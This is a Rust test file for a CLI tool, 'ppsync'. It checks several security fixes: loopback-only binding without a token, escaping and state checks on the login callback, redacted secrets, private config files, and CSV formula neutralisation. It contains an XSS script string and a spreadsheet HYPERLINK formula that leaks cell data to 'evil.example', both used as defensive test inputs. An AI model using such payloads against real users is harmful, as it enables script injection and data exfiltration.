//! Issue 16's security items, through the real binary: the status endpoint is not opened to the
//! network without a token, the login callback escapes what it echoes and waits for its own
//! `state`, `firm list` shows no secret, `init` writes a private file, and CSV cells a
//! spreadsheet would run are neutralised.

use crate::support::*;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_status_endpoint_off_loopback_without_a_token_is_refused() {
    let sim = sim(0.005).await;
    let dir = tempfile::tempdir().unwrap();
    for (listen, extra) in [
        ("0.0.0.0:0", ""),
        ("[::]:0", ""),
        ("0.0.0.0:0", "token = \"\"\n"),
    ] {
        let config = write_config(
            dir.path(),
            &sim,
            &format!("[http]\nlisten = \"{listen}\"\n{extra}"),
        );
        sim.clear_journal();
        let (code, out, err) = run_cli_async(&config, &["run"]).await;
        assert_eq!(code, 2, "{listen}: {out}{err}");
        assert_eq!(err.lines().count(), 1, "{listen}: one line: {err}");
        assert!(
            err.starts_with("error: ")
                && err.contains("`http.listen`")
                && err.contains("`http.token` is not set"),
            "{listen}: names both keys: {err}"
        );
        assert!(err.contains("127.0.0.1"), "and the other way out: {err}");
        assert!(sim.journal().is_empty(), "{listen}: nothing was sent");
        assert!(
            !dir.path().join("mirror.db").exists(),
            "{listen}: no database opened"
        );
    }
}

/// A running `ppsync auth login`: its stderr lines as they come; killed if the test ends early.
struct Login {
    child: std::process::Child,
    lines: std::sync::mpsc::Receiver<String>,
    stderr: Vec<String>,
}

impl Login {
    fn start(config: &std::path::Path) -> Login {
        use std::io::BufRead as _;
        let mut child = ppsync_cmd(config)
            .args(["auth", "login"])
            .env_remove("PPSYNC_LOG")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let (tx, lines) = std::sync::mpsc::channel();
        let stderr = child.stderr.take().unwrap();
        std::thread::spawn(move || {
            for line in std::io::BufReader::new(stderr).lines() {
                let Ok(line) = line else { break };
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        Login {
            child,
            lines,
            stderr: Vec::new(),
        }
    }

    /// Reads stderr until a line containing `what` (10 s at most).
    fn until(&mut self, what: &str) -> String {
        loop {
            match self.lines.recv_timeout(std::time::Duration::from_secs(10)) {
                Ok(line) => {
                    self.stderr.push(line.clone());
                    if line.contains(what) {
                        return line;
                    }
                }
                Err(_) => panic!("no line with {what:?}; stderr so far: {:#?}", self.stderr),
            }
        }
    }

    /// The authorize URL it printed (once it is listening) and the `state` in it.
    fn authorize_url(&mut self) -> (String, String) {
        self.until("Waiting for the redirect");
        let url = self
            .stderr
            .iter()
            .find_map(|l| l.trim().strip_prefix("http").map(|u| format!("http{u}")))
            .expect("the authorize URL is printed");
        let state = url::Url::parse(&url)
            .unwrap()
            .query_pairs()
            .find(|(k, _)| k == "state")
            .map(|(_, v)| v.into_owned())
            .expect("the URL carries a state");
        (url, state)
    }

    fn still_waiting(&mut self) -> bool {
        self.child.try_wait().unwrap().is_none()
    }

    /// Exit code, stdout, and every stderr line.
    fn finish(mut self) -> (i32, String, Vec<String>) {
        use std::io::Read as _;
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        let code = loop {
            if let Some(s) = self.child.try_wait().unwrap() {
                break s.code().unwrap_or(-1);
            }
            assert!(std::time::Instant::now() < deadline, "login did not end");
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        let mut out = String::new();
        self.child
            .stdout
            .take()
            .unwrap()
            .read_to_string(&mut out)
            .unwrap();
        while let Ok(l) = self
            .lines
            .recv_timeout(std::time::Duration::from_millis(500))
        {
            self.stderr.push(l);
        }
        (code, out, std::mem::take(&mut self.stderr))
    }
}

impl Drop for Login {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_login_callback_escapes_what_it_echoes_and_waits_for_its_own_state() {
    let sim = sim(0.005).await;
    let dir = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let callback = format!("http://127.0.0.1:{port}/callback");
    let config = write_config(dir.path(), &sim, &format!("redirect_uri = {callback:?}"));
    let http = reqwest::Client::new();
    let get = async |url: String| {
        let resp = http.get(url).send().await.expect("the callback answers");
        (resp.status().as_u16(), resp.text().await.unwrap())
    };
    let xss = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";

    let mut login = {
        let config = config.clone();
        tokio::task::spawn_blocking(move || {
            let mut l = Login::start(&config);
            let url = l.authorize_url();
            (l, url)
        })
        .await
        .unwrap()
    };
    let (url, state) = std::mem::take(&mut login.1);
    let mut login = login.0;
    assert_eq!(state.len(), 32, "{state}");
    // What any page the user has open can make the browser request: each is answered with an
    // escaped page, and the login goes on waiting.
    for query in [
        format!("error={xss}&state=wrong"),
        format!("error={xss}"),
        "code=forged&state=wrong".to_string(),
        "code=forged".to_string(),
        format!("code=forged&state={}", &state[..31]),
    ] {
        let (code, page) = get(format!("{callback}?{query}")).await;
        assert_eq!(code, 400, "{query}: {page}");
        assert!(
            !page.contains("<script>") && page.contains("still waiting"),
            "{query}: {page}"
        );
        if query.starts_with("error") {
            assert!(
                page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
                "{page}"
            );
        }
        assert!(login.still_waiting(), "{query} ended the login");
    }
    // The real redirect: the simulator consents and sends the browser to the callback.
    let (code, page) = get(url).await;
    assert_eq!(code, 200, "{page}");
    assert!(page.contains("ppsync is authorized"), "{page}");
    let (code, out, stderr) = tokio::task::spawn_blocking(move || login.finish())
        .await
        .unwrap();
    assert_eq!(code, 0, "{out}{stderr:#?}");
    assert!(out.contains("authorized; credentials stored"), "{out}");
    let ignored = stderr
        .iter()
        .filter(|l| l.starts_with("ignored a request"))
        .count();
    assert_eq!(ignored, 5, "each ignored request is said: {stderr:#?}");
    assert!(
        stderr
            .iter()
            .all(|l| !l.contains("forged") && !l.contains("script")),
        "nothing a page sent reaches the terminal: {stderr:#?}"
    );
    let (code, _, err) = run_cli_async(&config, &["auth", "status"]).await;
    assert_eq!(code, 0, "{err}");

    // The server's own refusal (this login's state) ends the login: escaped in the page, one
    // line on the terminal, and the stored credentials kept.
    let login = {
        let config = config.clone();
        tokio::task::spawn_blocking(move || {
            let mut l = Login::start(&config);
            let url = l.authorize_url();
            (l, url)
        })
        .await
        .unwrap()
    };
    let state = login.1.1.clone();
    let (code, page) = get(format!(
        "{callback}?error=%3Cb%3Edenied%3C%2Fb%3E&state={state}"
    ))
    .await;
    assert_eq!(code, 400, "{page}");
    assert!(
        page.contains("refused: &lt;b&gt;denied&lt;/b&gt;") && !page.contains("<b>"),
        "{page}"
    );
    let (code, out, stderr) = tokio::task::spawn_blocking(move || login.0.finish())
        .await
        .unwrap();
    assert_eq!(code, 2, "{out}{stderr:#?}");
    let last = stderr.last().unwrap();
    assert!(
        last.starts_with("error: authorization was refused: <b>denied</b>")
            && last.contains("ppsync auth login"),
        "{stderr:#?}"
    );
    let (code, _, err) = run_cli_async(&config, &["auth", "status"]).await;
    assert_eq!(code, 0, "the credentials stored before are kept: {err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn firm_list_never_prints_a_secret() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("ppsync.toml");
    std::fs::write(
        &config,
        format!(
            "database_url = {:?}\nclient_id = \"home-id\"\nclient_secret = \"home-s3cret\"\n",
            test_database_url(dir.path())
        ),
    )
    .unwrap();
    let secrets = [
        "client-s3cret",
        "whs3cret",
        "hookpath",
        "cmds3cret",
        "home-s3cret",
    ];
    let (code, out, err) = run_cli_async(
        &config,
        &[
            "firm",
            "add",
            "acme",
            "--client-id",
            "acme-id",
            "--client-secret",
            "client-s3cret",
            "--set",
            "notify.webhook_secret=whs3cret",
            "--set",
            "notify.webhook_url=https://hooks.example.com/services/T0/hookpath",
            "--set",
            "notify.command=curl -H 'Authorization: Bearer cmds3cret' https://x",
            "--set",
            "budget.requests=250",
        ],
    )
    .await;
    assert_eq!(code, 0, "{out}{err}");
    for args in [&["firm", "list", "--json"][..], &["firm", "list"]] {
        let (code, out, err) = run_cli_async(&config, args).await;
        assert_eq!(code, 0, "{err}");
        for s in secrets {
            assert!(
                !out.contains(s) && !err.contains(s),
                "{args:?} shows {s}: {out}{err}"
            );
        }
        assert!(out.contains("acme-id"), "{out}");
    }
    let (_, out, _) = run_cli_async(&config, &["firm", "list", "--json"]).await;
    let list: serde_json::Value = serde_json::from_str(&out).unwrap();
    let acme = &list[0];
    assert_eq!(acme["client_secret_set"], true);
    // What is set is still visible, only not what it is.
    let settings: toml::Table = acme["settings"].as_str().unwrap().parse().unwrap();
    assert_eq!(settings["budget"]["requests"].as_integer(), Some(250));
    assert_eq!(
        settings["notify"]["webhook_secret"].as_str(),
        Some("(hidden)")
    );
    assert_eq!(
        settings["notify"]["webhook_url"].as_str(),
        Some("https://hooks.example.com/(hidden)")
    );
}

#[cfg(unix)]
#[test]
fn init_writes_a_config_only_its_owner_can_read() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().unwrap();
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let fresh = dir.path().join("fresh.toml");
    let (code, out, err) = run_cli(&fresh, &["init"]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(mode(&fresh), 0o600);
    assert_eq!(
        std::fs::read_to_string(&fresh).unwrap(),
        ppsync::config::TEMPLATE
    );

    // Overwriting a file others could read makes it private too; without --force it is kept.
    let old = dir.path().join("old.toml");
    std::fs::write(&old, "client_secret = \"s3cret\"\n").unwrap();
    std::fs::set_permissions(&old, std::fs::Permissions::from_mode(0o644)).unwrap();
    let (code, _, err) = run_cli(&old, &["init"]);
    assert_eq!(code, 2);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.contains("already exists") && err.contains("--force"),
        "{err}"
    );
    assert_eq!(mode(&old), 0o644, "left as it was");
    assert_eq!(
        std::fs::read_to_string(&old).unwrap(),
        "client_secret = \"s3cret\"\n"
    );
    let (code, out, err) = run_cli(&old, &["init", "--force"]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(mode(&old), 0o600);
    assert_eq!(
        std::fs::read_to_string(&old).unwrap(),
        ppsync::config::TEMPLATE
    );

    let (code, _, err) = run_cli(&dir.path().join("no-such-dir/x.toml"), &["init"]);
    assert_eq!(code, 2);
    assert!(
        err.lines().count() == 1 && err.contains("no-such-dir/x.toml"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_neutralises_formulas_and_keeps_numbers() {
    let app = app(0.005, "").await;
    let matters = ppsync::resource::find("matters").unwrap();
    let invoices = ppsync::resource::find("invoices").unwrap();
    let matter = app.truth(matters)[0]["id"].as_str().unwrap().to_string();
    let invoice = app.truth(invoices)[0]["id"].as_str().unwrap().to_string();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    app.sim
        .edit(
            "matters",
            &matter,
            serde_json::json!({ "display_name": formula }),
        )
        .unwrap();
    app.sim
        .edit(
            "invoices",
            &invoice,
            serde_json::json!({ "total": -12.5, "total_outstanding": -3 }),
        )
        .unwrap();
    let (code, out, err) = app.cli(&["sync"]).await;
    assert_eq!(code, 0, "{out}{err}");

    let export = async |res: &str| {
        let (code, out, err) = app.cli(&["export", res, "--format", "csv"]).await;
        assert_eq!(code, 0, "{err}");
        for line in out.lines() {
            assert!(line.starts_with('"'), "every cell quoted: {line}");
        }
        let mut r = csv::Reader::from_reader(out.as_bytes());
        let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
        let rows: Vec<Vec<String>> = r
            .records()
            .map(|rec| rec.unwrap().iter().map(String::from).collect())
            .collect();
        (header, rows)
    };
    let (header, rows) = export("matters").await;
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rows.iter().find(|r| r[0] == matter).unwrap();
    assert_eq!(row[col("display_name")], format!("'{formula}"));
    // The record itself is as received (JSON, never read as a formula: it starts with `{`).
    let data: serde_json::Value = serde_json::from_str(&row[col("data")]).unwrap();
    assert_eq!(data["display_name"], formula);
    let cells = rows.len() * header.len();
    let risky = rows
        .iter()
        .flatten()
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .count();
    assert_eq!(risky, 0, "of {cells} cells");

    let (header, rows) = export("invoices").await;
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rows.iter().find(|r| r[0] == invoice).unwrap();
    assert_eq!(row[col("total")], "-12.5", "a plain number is left alone");
    assert_eq!(row[col("total_outstanding")], "-3");
}
